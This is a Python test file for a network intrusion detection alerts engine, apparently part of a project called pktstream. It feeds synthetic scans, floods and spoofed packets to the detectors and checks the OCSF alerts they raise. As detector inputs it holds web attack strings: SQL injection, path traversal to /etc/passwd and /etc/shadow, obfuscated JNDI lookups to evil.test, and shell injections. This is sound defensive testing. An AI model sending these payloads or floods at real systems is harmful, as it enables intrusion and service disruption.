"""The alerts consumer without Kafka: every detector on generated attacks (exactly the expected
alert, with its fields) and a benign mix of the same volume (no alert); alert life cycle; OCSF and
Avro forms; attack strings; configuration errors; snapshots."""

from __future__ import annotations

import io
import json
import random
from typing import Any

import fastavro
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pktstream.consumers.alerts import attacks
from pktstream.consumers.alerts.processor import AlertsProcessor
from pktstream.consumers.alerts.rules import load_rules
from pktstream.consumers.catalog import Catalog
from pktstream.consumers.engine import features, snapshot
from pktstream.consumers.engine.runner import FOREVER, Output
from pktstream.runtime.errors import ConfigError
from pktstream.schemas import load_schema_json
from pktstream.schemas.columns import read_container
from tests.support.ocsf import assert_valid, problems
from tests.support.traffic import Traffic, containers, generate, http_get, merge, packets, spread

SEC = 10**9
T0 = (1_800_000_000 // 300) * 300 * SEC  # a 5-minute boundary
RULES = {"external_interfaces": ["ext0"],
         "detectors": {"volumetric": {"window_s": 1, "warmup_windows": 5, "min_packets": 2000}}}
CATALOG = {"apis": [{"name": "login", "host": "api.shop.test", "method": "POST", "path": "/login",
                     "rate_limit_per_min": 100}]}


def run(t: Traffic, rules: dict[str, Any] = RULES, nparts: int = 3, origin: str = "gen/eth0",
        extra: list[tuple[Traffic, str]] = (), close_every_s: float = 0) -> list[dict[str, Any]]:
    p = AlertsProcessor(load_rules(None, rules), Catalog.from_data(CATALOG))
    states = {q: p.new_state() for q in range(nparts)}
    out: list[Output] = []
    msgs = [(m, origin) for m in containers(t, batch=4000)] if t.n else []
    for tt, o in extra:
        msgs += [(m, o) for m in containers(tt, batch=4000)]
    msgs.sort(key=lambda mo: int(read_container(mo[0]).columns["ts_ns"][0]))
    for m, o in msgs:
        f = p.featurize(read_container(m), o)
        for q, part in p.route(f, nparts).items():
            p.process(states[q], features.decode(features.encode(features.compact(part))))
        if close_every_s:
            wm = int(read_container(m).columns["ts_ns"].max())
            for q in sorted(states):
                out += p.close(states[q], wm)
    for q in sorted(states):
        out += p.close(states[q], FOREVER)
    docs = [o.record for o in out]
    assert_valid(docs)  # every event of every scenario, by OCSF's own schema
    return docs


def rules_fired(docs: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    return sorted((d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"], d["activity_name"])
                  for d in docs)


def benign(n_conn: int = 3000) -> Traffic:
    return generate(n_conn, T0 + SEC, 200 * SEC, clients=400, seed=3)


def test_benign_mix_raises_nothing() -> None:
    t = benign(20000)
    assert t.n > 130_000
    assert run(t) == []


def test_port_scan() -> None:
    scan = packets([{"ts": ts, "src": "198.51.100.9", "dst": "10.1.0.10", "sport": 55555, "dport": port,
                     "flags": 0x02}
                    for ts, port in zip(spread(T0 + 5 * SEC, 100, 20 * SEC), range(1, 101), strict=True)])
    docs = run(merge(benign(), scan))
    assert rules_fired(docs) == [("port_scan", "198.51.100.9->10.1.0.10", "Close"),
                                 ("port_scan", "198.51.100.9->10.1.0.10", "Create")]
    create = next(d for d in docs if d["activity_id"] == 1)
    p = create["unmapped"]["pktstream"]
    assert p["distinct"] == 100 and p["window_count"] == 100 and len(p["top"]) == 10
    assert create["finding_info"]["attacks"][0]["technique"]["uid"] == "T1046"
    assert create["severity_id"] == 3
    assert create["evidences"][0]["src_endpoint"] == {"ip": "198.51.100.9", "port": 55555}
    assert create["finding_info"]["first_seen_time"] == (T0 + 5 * SEC) // 10**6
    assert p["seen_by"] == ["gen/eth0"]


def test_address_sweep() -> None:
    sweep = packets([{"ts": ts, "src": "198.51.100.7", "dst": f"10.2.{i // 250}.{i % 250 + 1}", "dport": 22,
                      "flags": 0x02} for i, ts in enumerate(spread(T0 + 5 * SEC, 60, 30 * SEC))])
    docs = run(merge(benign(), sweep))
    assert rules_fired(docs) == [("address_sweep", "198.51.100.7->*:22/tcp", "Close"),
                                 ("address_sweep", "198.51.100.7->*:22/tcp", "Create")]
    c = next(d for d in docs if d["activity_id"] == 1)
    assert c["unmapped"]["pktstream"]["distinct"] == 60
    assert c["finding_info"]["attacks"][0]["technique"]["uid"] == "T1595.001"


def test_syn_flood_spoofed_sources() -> None:
    rng = random.Random(1)
    flood = packets([{"ts": ts, "src": f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", "dst": "10.1.0.10",
                      "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02}
                     for ts in spread(T0 + 12 * SEC, 3000, 5 * SEC)])
    docs = run(merge(benign(), flood))
    assert rules_fired(docs) == [("syn_flood", "10.1.0.10", "Close"), ("syn_flood", "10.1.0.10", "Create")]
    c = next(d for d in docs if d["activity_id"] == 1)
    # every flood connection is half-open; the benign ones to the same server in that window are not
    opened = c["unmapped"]["pktstream"]["window_count"]
    assert c["message"] == f"3000 of {opened} connections to 10.1.0.10 left half-open"
    assert c["unmapped"]["pktstream"]["window_count"] > 3000
    assert c["finding_info"]["attacks"][0]["technique"]["uid"] == "T1499.001"


def test_one_ongoing_flood_is_one_alert_updated_then_closed() -> None:
    flood = packets([{"ts": ts, "src": "192.0.2.1", "dst": "10.1.0.11", "sport": 40000 + i % 1000, "dport": 9999,
                      "proto": 17, "len": 100} for i, ts in enumerate(spread(T0 + 10 * SEC, 75000, 30 * SEC))])
    everything = run(merge(benign(), flood), close_every_s=1)
    # (the volume detector sees it too: that server had a baseline)
    assert {d["unmapped"]["pktstream"]["rule"] for d in everything} == {"udp_flood", "volumetric"}
    docs = [d for d in everything if d["unmapped"]["pktstream"]["rule"] == "udp_flood"]
    fired = [(d["unmapped"]["pktstream"]["rule"], d["activity_name"]) for d in docs]
    assert fired == [("udp_flood", "Create"), ("udp_flood", "Update"), ("udp_flood", "Update"),
                     ("udp_flood", "Close")]
    assert len({d["finding_info"]["uid"] for d in docs}) == 1
    assert [d["count"] for d in docs] == [25000, 50000, 75000, 75000]
    assert docs[-1]["status"] == "Resolved" and docs[0]["status"] == "New"


def test_icmp_flood_and_amplification() -> None:
    icmp = packets([{"ts": ts, "src": "192.0.2.5", "dst": "10.1.0.12", "proto": 1, "sport": 8, "dport": 0,
                     "len": 98} for ts in spread(T0 + 21 * SEC, 6000, 5 * SEC)])
    amp = packets([{"ts": ts, "src": f"192.0.2.{100 + i % 50}", "dst": "10.1.0.13", "proto": 17,
                    "sport": (53, 123)[i % 2], "dport": 4444, "len": 1400}
                   for i, ts in enumerate(spread(T0 + 31 * SEC, 1000, 5 * SEC))])
    docs = run(merge(benign(), icmp, amp))
    assert rules_fired(docs) == [("amplification", "10.1.0.13", "Close"), ("amplification", "10.1.0.13", "Create"),
                                 ("icmp_flood", "10.1.0.12", "Close"), ("icmp_flood", "10.1.0.12", "Create")]
    amp_doc = next(d for d in docs if d["activity_id"] == 1 and d["unmapped"]["pktstream"]["rule"] == "amplification")
    assert {t["value"] for t in amp_doc["unmapped"]["pktstream"]["top"]} == {"53", "123"}
    assert amp_doc["finding_info"]["attacks"][0]["technique"]["uid"] == "T1498.002"


def test_spoofed_sources() -> None:
    land = packets([{"ts": T0 + 3 * SEC, "src": "10.1.0.10", "dst": "10.1.0.10", "sport": 80, "dport": 80,
                     "flags": 0x02}])
    mcast = packets([{"ts": T0 + 4 * SEC, "src": "224.0.0.9", "dst": "10.1.0.10", "proto": 17, "sport": 520,
                      "dport": 520}])
    bogon = packets([{"ts": T0 + 5 * SEC + i, "src": "10.99.0.1", "dst": "172.31.0.5", "dport": 443, "flags": 0x02}
                     for i in range(3)])
    docs = run(benign(), extra=[(merge(land, mcast), "gen/eth0"), (bogon, "edge/ext0")])
    assert rules_fired(docs) == [
        ("spoofed_source", "LAND->10.1.0.10", "Close"), ("spoofed_source", "LAND->10.1.0.10", "Create"),
        ("spoofed_source", "bogon or martian source->172.31.0.5", "Close"),
        ("spoofed_source", "bogon or martian source->172.31.0.5", "Create"),
        ("spoofed_source", "multicast or broadcast source->10.1.0.10", "Close"),
        ("spoofed_source", "multicast or broadcast source->10.1.0.10", "Create"),
    ]
    b = next(d for d in docs if d["activity_id"] == 1 and "bogon" in d["unmapped"]["pktstream"]["key"])
    assert b["unmapped"]["pktstream"]["window_count"] == 3 and b["unmapped"]["pktstream"]["seen_by"] == ["edge/ext0"]


@pytest.mark.parametrize("flags,name", [(0x00, "NULL"), (0x29, "XMAS"), (0x03, "SYN+FIN"), (0x06, "SYN+RST"),
                                        (0x01, "FIN without ACK")])
def test_tcp_flag_anomalies(flags: int, name: str) -> None:
    odd = packets([{"ts": T0 + 7 * SEC + i, "src": "198.51.100.3", "dst": "10.1.0.10", "dport": 1000 + i,
                    "flags": flags} for i in range(3)])
    everything = run(merge(benign(), odd))
    docs = [d for d in everything if d["unmapped"]["pktstream"]["rule"] == "tcp_flags"]
    assert rules_fired(docs) == [("tcp_flags", f"{name}:198.51.100.3->10.1.0.10", "Close"),
                                 ("tcp_flags", f"{name}:198.51.100.3->10.1.0.10", "Create")]
    assert docs[0]["unmapped"]["pktstream"]["window_count"] == 3
    assert len(everything) == len(docs)  # nothing else


ATTACKS = [
    ("/search?q=1%27%20OR%20%271%27=%271", "sql_injection"),
    ("/items?id=1 UNION SELECT password FROM users", "sql_injection"),
    ("/static/../../../../etc/passwd", "path_traversal"),
    ("/download?f=..%2f..%2fetc%2fshadow", "path_traversal"),
    ("/x?a=${jndi:ldap://evil.test/a}", "jndi_lookup"),
    ("/x?a=${${lower:j}${::-n}di:ldap://evil.test/a}", "jndi_lookup"),
    ("/x?a=%24%7Bjndi%3Armi%3A%2F%2Fevil%7D", "jndi_lookup"),
    ("/ping?host=127.0.0.1;cat /etc/hostname", "shell_injection"),
    ("/run?cmd=$(whoami)", "shell_injection"),
]


@pytest.mark.parametrize("path,kind", ATTACKS)
def test_attack_strings(path: str, kind: str) -> None:
    assert attacks.scan(http_get(path)) & next(b for b, n in attacks.NAMES.items() if n == kind)
    req = packets([{"ts": T0 + 9 * SEC, "src": "198.51.100.4", "dst": "10.1.0.10", "sport": 41000, "dport": 80,
                    "flags": 0x18, "len": 200, "payload": http_get(path)}])
    docs = run(merge(benign(), req))
    creates = [d for d in docs if d["activity_id"] == 1]
    assert [d["unmapped"]["pktstream"]["key"] for d in creates] == [f"{kind}:198.51.100.4->10.1.0.10:80"]
    assert creates[0]["finding_info"]["attacks"][0]["technique"]["uid"] == "T1190"
    assert creates[0]["evidences"][0]["data"]["path"] == path.split("?")[0]


def test_attack_evidence_paths_hold_no_credentials_like_routes() -> None:
    """An attack path that carries a JWT and an e-mail address: the alert's evidence and the state (its
    snapshot) hold the placeholders route templates use, the attack text stays."""
    jwt = "eyJ" + "hbGciOiJIUzI1NiJ9." + "eyJ" + "zdWIiOiJhbm4ifQ.c2lnbmF0dXJlMTIzNDU2Nzg5MA"
    path = f"/files/{jwt}/ann%40example.com/../../../../etc/passwd"
    req = packets([{"ts": T0 + 9 * SEC, "src": "198.51.100.4", "dst": "10.1.0.10", "sport": 41000, "dport": 80,
                    "flags": 0x18, "len": 300, "payload": http_get(path)}], payload_width=256)
    p = AlertsProcessor(load_rules(None, RULES), Catalog.from_data(CATALOG))
    s = p.new_state()
    for part in p.route(p.featurize(read_container(containers(req)[0]), "gen/eth0"), 1).values():
        p.process(s, features.decode(features.encode(features.compact(part))))
    state = snapshot.pack(p.dump(s)).decode("latin-1")
    docs = [o.record for o in p.close(s, FOREVER)]
    (create,) = [d for d in docs if d["activity_id"] == 1]
    assert create["evidences"][0]["data"]["path"] == "/files/{token}/{email}/../../../../etc/passwd"
    for secret in (jwt, "ann%40example.com", "ann@example.com"):
        assert secret not in state and secret not in json.dumps(docs)


def test_header_jndi_obfuscated() -> None:
    p = http_get("/", extra="User-Agent: ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}\r\n")
    assert attacks.scan(p) & attacks.JNDI


@given(st.text(alphabet=st.characters(codec="ascii", categories=["L", "N"]), min_size=1, max_size=30))
def test_plain_paths_are_not_attacks(word: str) -> None:
    assert attacks.scan(http_get(f"/v1/{word}/items?page=2&sort=name")) == 0


@given(st.binary(max_size=300))
def test_scanner_never_breaks(b: bytes) -> None:
    attacks.scan(b)


_HEADS = st.lists(st.sampled_from([b"GET /", b"a", b"Or", b" ", b"_", b"..", b".", b"/etc/", b"/ETC", b"/bin/",
                                   b"/proc/", b"UNION", b"select", b"WaitFor", b"information_schema", b"and", b"AND1",
                                   b"0or", b"%", b"'", b"$", b"\r\n", b"\r\n\r\n", b"\xff", b"(", b";", b"x=1&y=2"]),
                  max_size=40).map(b"".join)


@given(st.one_of(_HEADS, st.binary(max_size=200)), st.integers(0, 260))
def test_c_prefilter_agrees_with_the_expression(payload: bytes, width: int) -> None:
    """The C prefilter gives _SUSPECT's answer on the head, for any bytes and prefix width."""
    mat = np.zeros((1, width), dtype=np.uint8)
    cut = payload[:width]
    mat[0, : len(cut)] = np.frombuffer(cut, dtype=np.uint8)
    head = cut.split(b"\r\n\r\n", 1)[0]
    assert bool(attacks.suspects(mat, [len(cut)])[0]) == bool(attacks._SUSPECT.search(head))
    assert int(attacks.scan_batch(mat, [len(cut)])[0]) == attacks.scan(cut)


def test_rate_limit_per_client() -> None:
    body = b"POST /login HTTP/1.1\r\nHost: api.shop.test\r\nContent-Length: 0\r\n\r\n"
    fast = packets([{"ts": ts, "src": "10.100.9.9", "dst": "10.1.0.10", "sport": 30000 + i, "dport": 80,
                     "flags": 0x18, "len": 120, "payload": body}
                    for i, ts in enumerate(spread(T0 + 61 * SEC, 150, 50 * SEC))])
    slow = packets([{"ts": ts, "src": "10.100.9.8", "dst": "10.1.0.10", "sport": 30000 + i, "dport": 80,
                     "flags": 0x18, "len": 120, "payload": body}
                    for i, ts in enumerate(spread(T0 + 61 * SEC, 90, 50 * SEC))])
    docs = run(merge(benign(), fast, slow))
    assert rules_fired(docs) == [("rate_limit", "login:10.100.9.9", "Close"),
                                 ("rate_limit", "login:10.100.9.9", "Create")]


def test_volumetric_against_baseline() -> None:
    steady = packets([{"ts": ts, "src": "192.0.2.50", "dst": "10.1.0.20", "dport": 443, "flags": 0x10}
                      for ts in spread(T0 + 100 * SEC, 1000, 10 * SEC)])
    burst = packets([{"ts": ts, "src": "192.0.2.50", "dst": "10.1.0.20", "sport": 20000 + i % 500, "dport": 443,
                      "flags": 0x10} for i, ts in enumerate(spread(T0 + 110 * SEC, 5000, SEC))])
    one_flow = packets([{"ts": ts, "src": "192.0.2.60", "dst": "10.1.0.21", "dport": 443, "flags": 0x10}
                        for ts in [*spread(T0 + 100 * SEC, 1000, 10 * SEC), *spread(T0 + 110 * SEC, 5000, SEC)]])
    docs = run(merge(benign(), steady, burst, one_flow), close_every_s=1)
    fired = rules_fired(docs)  # the same burst in one connection (a bulk transfer) is no anomaly
    assert fired == [("volumetric", "destination:10.1.0.20", "Close"),
                     ("volumetric", "destination:10.1.0.20", "Create"),
                     ("volumetric", "source:192.0.2.50", "Close"), ("volumetric", "source:192.0.2.50", "Create")]


def test_ocsf_and_avro_forms() -> None:
    """Every event is a valid OCSF 1.3.0 Detection Finding by OCSF's own schema (run() checks each
    scenario's events the same way); the validator does reject what the schema forbids; the
    Avro variant carries the same alerts."""
    scan = packets([{"ts": T0 + 5 * SEC + i, "src": "198.51.100.9", "dst": "10.1.0.10", "dport": port, "flags": 2}
                    for i, port in enumerate(range(1, 40))])
    docs = run(merge(benign(), scan))
    assert docs and problems(docs) == []
    create = next(d for d in docs if d["activity_id"] == 1)
    assert create["class_uid"] == 2004 and create["type_uid"] == 200401 and create["metadata"]["version"] == "1.3.0"
    conn = create["evidences"][0]["connection_info"]
    assert (conn["direction_id"], conn["direction"]) == (1, "Inbound")  # from outside to a private address
    assert create["finding_info"]["analytic"]["uid"] == "port_scan" and create["timezone_offset"] == 0
    broken = json.loads(json.dumps(create))
    del broken["evidences"][0]["connection_info"]["direction_id"]
    broken["severity_id"] = "high"
    found = problems([broken])
    assert any("direction_id" in x for x in found) and any("severity_id" in x for x in found), found
    from pktstream.consumers.alerts.ocsf import avro_record

    schema = fastavro.parse_schema(load_schema_json("alert"))
    buf = io.BytesIO()
    fastavro.writer(buf, schema, [avro_record(d) for d in docs])
    back = list(fastavro.reader(io.BytesIO(buf.getvalue())))
    assert [r["uid"] for r in back] == [d["finding_info"]["uid"] for d in docs]
    assert back[0]["activity"] == "create" and back[0]["distinct"] == 39 and back[0]["direction_id"] == 1
    # the sample conversation's Community ID, as Corelight's reference implementation computes it
    import communityid

    ev = create["evidences"][0]
    tpl = communityid.FlowTuple.make_tcp(ev["src_endpoint"]["ip"], ev["dst_endpoint"]["ip"],
                                         ev["src_endpoint"]["port"], ev["dst_endpoint"]["port"])
    want = str(communityid.CommunityID().calc(tpl))
    assert ev["data"]["community_id"] == want and back[0]["community_id"] == want


def test_snapshot_restore_gives_the_same_alerts() -> None:
    rng = random.Random(2)
    flood = packets([{"ts": ts, "src": f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", "dst": "10.1.0.10",
                      "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02}
                     for ts in spread(T0 + 12 * SEC, 3000, 25 * SEC)])
    t = merge(benign(), flood)
    ref = run(t, close_every_s=1)
    p = AlertsProcessor(load_rules(None, RULES), Catalog.from_data(CATALOG))
    msgs = containers(t, batch=4000)
    states = {q: p.new_state() for q in range(2)}
    out: list[Output] = []
    for i, m in enumerate(msgs):
        b = read_container(m)
        for q, part in p.route(p.featurize(b, "gen/eth0"), 2).items():
            p.process(states[q], features.decode(features.encode(part)))
        for q in sorted(states):
            out += p.close(states[q], int(b.columns["ts_ns"].max()))
        if i == len(msgs) // 2:
            states = {q: p.load(snapshot.unpack(snapshot.pack(p.dump(s)))) for q, s in states.items()}
    for q in sorted(states):
        out += p.close(states[q], FOREVER)
    got = [o.record for o in out]
    assert sorted(json.dumps(d, sort_keys=True) for d in got) == sorted(json.dumps(d, sort_keys=True) for d in ref)


def floods_seen(ttl: int, seed: int = 4, part: slice = slice(None), random_ttl: bool = False) -> Traffic:
    """A SYN flood from spoofed sources (their packets at the given TTL) and a UDP flood from one
    source, to the same server, as one capture point sees them (``part``: only those packets).
    ``random_ttl``: each packet's TTL is a random one (1 to 250, the same for a seed) plus ``ttl``."""
    rng = random.Random(seed)
    tr = random.Random(seed + 1)

    def t() -> int:
        return ttl + tr.randrange(1, 251) if random_ttl else ttl

    syn = [{"ts": ts, "src": f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", "dst": "10.1.0.10",
            "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02, "ttl": t()}
           for ts in spread(T0 + 12 * SEC, 3000, 5 * SEC)]
    udp = [{"ts": ts, "src": "192.0.2.1", "dst": "10.1.0.10", "sport": 40000 + i % 1000, "dport": 9999,
            "proto": 17, "len": 100, "ttl": t()} for i, ts in enumerate(spread(T0 + 31 * SEC, 24000, 5 * SEC))]
    return packets(sorted(syn + udp, key=lambda x: x["ts"])[part])


def findings(docs: list[dict[str, Any]]) -> list[str]:
    """The alerts without the capture points that saw them."""
    out = []
    for d in docs:
        d = json.loads(json.dumps(d))
        d["unmapped"]["pktstream"].pop("seen_by", None)
        out.append(json.dumps(d, sort_keys=True))
    return sorted(out)


def test_packets_received_by_two_capture_points_on_their_way_count_once() -> None:
    """A router's ingress (the packets one hop before the server: TTL one more) and the server's host
    both capture the floods: the alerts, their counts and messages are those of either point alone."""
    server = run(merge(benign(), floods_seen(54)))
    router = run(floods_seen(55), origin="router/eth1")
    both = run(merge(benign(), floods_seen(54)), extra=[(floods_seen(55), "router/eth1")])
    assert {(d["unmapped"]["pktstream"]["rule"], d["activity_name"]) for d in server} >= {
        ("syn_flood", "Create"), ("udp_flood", "Create")}
    syn = next(d for d in both if d["unmapped"]["pktstream"]["rule"] == "syn_flood" and d["activity_id"] == 1)
    assert syn["message"].startswith("3000 of ") and syn["unmapped"]["pktstream"]["seen_by"] == [
        "gen/eth0", "router/eth1"]
    udp = next(d for d in both if d["unmapped"]["pktstream"]["rule"] == "udp_flood" and d["activity_id"] == 1)
    assert udp["unmapped"]["pktstream"]["window_count"] == 24000
    assert findings(both) == findings(server)
    # the router's floods alone (no benign traffic there) raise the same floods with the same counts
    def floods(docs: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        return sorted((d["unmapped"]["pktstream"]["rule"], d["activity_name"], d["finding_info"]["uid"], d["count"],
                       d["message"]) for d in docs if d["unmapped"]["pktstream"]["rule"] in {"syn_flood", "udp_flood"})
    alone = run(floods_seen(54))
    assert floods(router) == floods(alone) and len(floods(alone)) >= 4


def test_a_flood_with_random_ttls_received_at_two_points_on_its_way_counts_once() -> None:
    """Flood tools forge TTLs: each packet's at random (crossing 64 and 128 on its way), one less at
    the server than at the router before it. Counted once, at the server."""
    server = run(floods_seen(0, random_ttl=True))
    both = run(floods_seen(0, random_ttl=True), extra=[(floods_seen(1, random_ttl=True), "router/eth1")])
    assert findings(both) == findings(server)
    assert {d["unmapped"]["pktstream"]["rule"] for d in both} == {"syn_flood", "udp_flood"}


def test_a_host_writing_false_ttls_cannot_hide_what_another_point_saw() -> None:
    """A capture point that names the same flows as the server's (every SYN of the flood, one packet
    of each UDP flow) with false TTLs (1: the nearest rank there is) and fewer packets changes no count
    or message: points that counted the same flows count once, the one that counted the most. One
    that claims flows of its own adds its records, as any record it writes can, and no more: 450
    small answers beside 400 reflected ones do not hide the reflection (their bytes add up)."""
    server = run(floods_seen(54))
    flood = floods_seen(1)
    c = flood.columns
    udp = np.flatnonzero(c["protocol"] == 17)
    keep = c["protocol"] == 6
    keep[udp[np.unique(c["src_port"][udp], return_index=True)[1]]] = True  # each UDP flow's first packet
    liar = Traffic({k: np.asarray(v)[keep] for k, v in c.items()}, int(keep.sum()))
    assert liar.n == 3000 + 1000
    with_liar = run(floods_seen(54), extra=[(liar, "liar/eth0")])

    def counts(docs: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        return sorted((d["unmapped"]["pktstream"]["rule"], d["activity_name"], d["finding_info"]["uid"], d["count"],
                       d["message"]) for d in docs)

    assert counts(with_liar) == counts(server) and len(counts(server)) >= 4
    assert all("liar/eth0" in d["unmapped"]["pktstream"]["seen_by"] for d in with_liar if d["activity_id"] == 1)
    # 400 DNS answers of 1,200 bytes to a victim; the liar claims 450 answers of 60 bytes at TTL 1
    reflected = packets([{"ts": ts, "src": f"45.33.32.{10 + i % 40}", "dst": "10.1.0.20", "sport": 53,
                          "dport": 4444 + i % 7, "proto": 17, "len": 1200, "ttl": 50}
                         for i, ts in enumerate(spread(T0 + 12 * SEC, 400, 4 * SEC))])
    small = packets([{"ts": ts, "src": "45.33.32.10", "dst": "10.1.0.20", "sport": 53, "dport": 5555, "proto": 17,
                      "len": 60, "ttl": 1} for ts in spread(T0 + 12 * SEC, 450, 4 * SEC)])
    rules = {**RULES, "detectors": {**RULES["detectors"], "amplification": {"min_packets": 300}}}
    alone = run(reflected, rules)
    assert [(d["unmapped"]["pktstream"]["rule"], d["activity_name"]) for d in alone] == [
        ("amplification", "Create"), ("amplification", "Close")]
    lied = run(reflected, rules, extra=[(small, "liar/eth0")])
    assert rules_fired(lied) == rules_fired(alone)
    assert next(d for d in lied if d["activity_id"] == 1)["count"] == 850


def test_answered_syn_acks_also_seen_on_a_router_that_misses_the_acks_stay_answered() -> None:
    """The server's host sends 600 SYN-ACKs and receives each client's ACK; a router link on the way
    out sees the SYN-ACKs only (the ACKs come back another way). Both points counted the same
    connections: nothing is unanswered."""
    rules = {**RULES, "detectors": {**RULES["detectors"],
                                    "synack_unanswered": {"min_unanswered": 50, "min_ratio": 0.1}}}
    ts = spread(T0 + 12 * SEC, 600, 4 * SEC)

    def synacks(ttl: int) -> list[dict[str, Any]]:
        return [{"ts": t, "src": "10.1.0.10", "dst": f"198.51.{i % 200}.{1 + i % 250}", "sport": 443,
                 "dport": 30000 + i, "flags": 0x12, "direction": 1, "ttl": ttl} for i, t in enumerate(ts)]

    acks = [{"ts": t + 2_000_000, "src": f"198.51.{i % 200}.{1 + i % 250}", "dst": "10.1.0.10",
             "sport": 30000 + i, "dport": 443, "flags": 0x10, "ttl": 50} for i, t in enumerate(ts)]
    server = packets(synacks(64) + acks)
    assert run(server, rules) == []
    assert run(server, rules, extra=[(packets(synacks(63)), "router/eth1")]) == []


def test_a_hairpin_link_that_sees_each_packet_leave_and_come_back_counts_its_arrivals() -> None:
    """A host that routes the floods out of a link and receives them back on the same link (a
    router on a stick) records each packet twice at one capture point, leaving then arriving: the
    two records are not folded into one row, and the arrivals raise the floods as they would alone."""
    def both_ways(t: Traffic) -> Traffic:
        cols = {k: np.concatenate([np.asarray(v), np.asarray(v)]) for k, v in t.columns.items()}
        cols["direction"] = np.r_[np.ones(t.n, np.int64), np.zeros(t.n, np.int64)]  # leaving, then back
        cols["ttl"] = np.r_[np.full(t.n, 63, np.int64), np.full(t.n, 62, np.int64)]
        order = np.argsort(cols["ts_ns"], kind="stable")
        return Traffic({k: v[order] for k, v in cols.items()}, 2 * t.n)

    def counted(docs: list[dict[str, Any]]) -> list[tuple[Any, ...]]:  # (twice the records: other batches, and
        # a row's time is its run's first packet's in its batch: the last seen times may differ)
        return sorted((d["unmapped"]["pktstream"]["rule"], d["activity_name"], d["finding_info"]["uid"], d["count"],
                       d["message"], d["unmapped"]["pktstream"].get("seen_by"), json.dumps(d.get("evidences")))
                      for d in docs)

    alone = run(floods_seen(62))
    assert counted(run(both_ways(floods_seen(62)))) == counted(alone)
    assert {d["unmapped"]["pktstream"]["rule"] for d in alone} == {"syn_flood", "udp_flood"}


def test_a_flood_split_between_two_points_at_the_same_distance_adds_up() -> None:
    """Two hosts (or two parallel links) each receive half of the floods, at the same TTL: the alerts
    count both halves, as one point receiving all of it would."""
    whole = run(floods_seen(54))
    halves = run(floods_seen(54, part=slice(0, None, 2)), origin="a/eth0",
                 extra=[(floods_seen(54, part=slice(1, None, 2)), "b/eth0")])
    assert findings(halves) == findings(whole)
    assert {s for d in halves for s in d["unmapped"]["pktstream"].get("seen_by", [])} == {"a/eth0", "b/eth0"}


def test_a_snapshot_from_before_ranked_points_still_loads() -> None:
    p = AlertsProcessor(load_rules(None, RULES), Catalog.from_data(CATALOG))
    s = p.new_state()
    for origin in ("other/eth0", "gen/eth0"):  # (the floods' capture point is not the state's first string)
        t = floods_seen(54) if origin == "gen/eth0" else benign(200)
        for m in containers(t, batch=100_000):
            for part in p.route(p.featurize(read_container(m), origin), 1).values():
                p.process(s, part)
    d = snapshot.unpack(snapshot.pack(p.dump(s)))
    tables = [t for wins in d["windows"].values() for t in wins.values()]
    assert tables and all("r" in t for t in tables)
    assert any("o" in t.get("side", {}) for t in tables)  # the floods' tables are light
    for t in tables:  # as written before: no ranks, one sample per key
        del t["r"]
        t.get("side", {}).pop("o", None)
    d.pop("seen_nearer")
    old = p.load(d)
    assert findings([o.record for o in p.close(old, FOREVER)]) == findings([o.record for o in p.close(s, FOREVER)])


def test_config_errors_are_listed_together(tmp_path: Any) -> None:
    with pytest.raises(ConfigError) as e:
        load_rules(None, {"detectors": {"port_scan": {"min_ports": -1, "colour": 1}, "nope": {},
                                        "syn_flood": {"window_s": 0}}, "external_interfaces": "eth0",
                          "extra": 1})
    text = str(e.value)
    for needle in ("min_ports", "colour", "nope", "window_s", "external_interfaces", "extra"):
        assert needle in text
    with pytest.raises(ConfigError) as e:
        load_rules(None, {"detectors": {"port_scan": {"hop_s": 7}, "amplification": {
            "min_mean_bytes_by_port": {123: -5, "ntp": 1}}}})
    assert "port_scan.hop_s: 7 must divide window_s (300)" in str(e.value)
    assert "amplification.min_mean_bytes_by_port" in str(e.value)
    r = load_rules(None, {"detectors": {"amplification": {"min_mean_bytes_by_port": {161: 1200}}}})
    by_port = r.detectors["amplification"]["min_mean_bytes_by_port"]
    assert by_port[161] == 1200 and by_port[123] == 200  # the ports given change, the others keep theirs
    assert r.step_ns("port_scan") == 60 * SEC and r.step_ns("udp_flood") == r.window_ns("udp_flood")
    bad = tmp_path / "r.yaml"
    bad.write_text("detectors: [")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_rules(bad)


def test_flag_anomaly_table_matches_the_rules() -> None:
    """Each of the 256 flag bytes, over TCP and another protocol, gets the code the rules say;
    NULL wins over XMAS, XMAS over SYN+FIN, SYN+FIN over SYN+RST, that over FIN without ACK."""
    from pktstream.consumers.alerts.detectors.tcp_flags import flag_anomaly

    fin, syn, rst, psh, ack, urg = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20
    flags = np.tile(np.arange(256), 2)
    proto = np.repeat([6, 17], 256)
    want = []
    for f, p in zip(flags.tolist(), proto.tolist(), strict=True):
        code = 0
        if p == 6:
            if f & 0x3F == 0:
                code = 1
            elif f & (fin | psh | urg) == fin | psh | urg:
                code = 2
            elif f & (syn | fin) == syn | fin:
                code = 3
            elif f & (syn | rst) == syn | rst:
                code = 4
            elif not f & ack and f & fin and not f & syn:
                code = 5
        want.append(code)
    assert flag_anomaly(flags, proto).tolist() == want


def test_every_detector_is_one_module_with_its_declarations() -> None:
    """The registry finds each detector module; each declares what docs, rules and OCSF need."""
    from pktstream.consumers.alerts.detectors import registry

    reg = registry()
    assert list(reg) == ["port_scan", "scan_confirmed", "address_sweep", "syn_flood", "synack_unanswered",
                         "udp_flood", "icmp_flood", "amplification", "spoofed_source", "tcp_flags", "http_attack",
                         "brute_force", "rate_limit", "error_spike", "volumetric"]
    for name, d in reg.items():
        assert d.__module__ == f"pktstream.consumers.alerts.detectors.{name}"
        assert d.defaults["enabled"] is True and d.defaults["window_s"] >= 1
        assert 1 <= d.severity_id <= 5 and d.technique[0].startswith("T") and d.tactic[0].startswith("TA")
        assert d.title and d.rule
        assert set(d.columns) <= set(features.FEATURE_DTYPE.names or ()), name


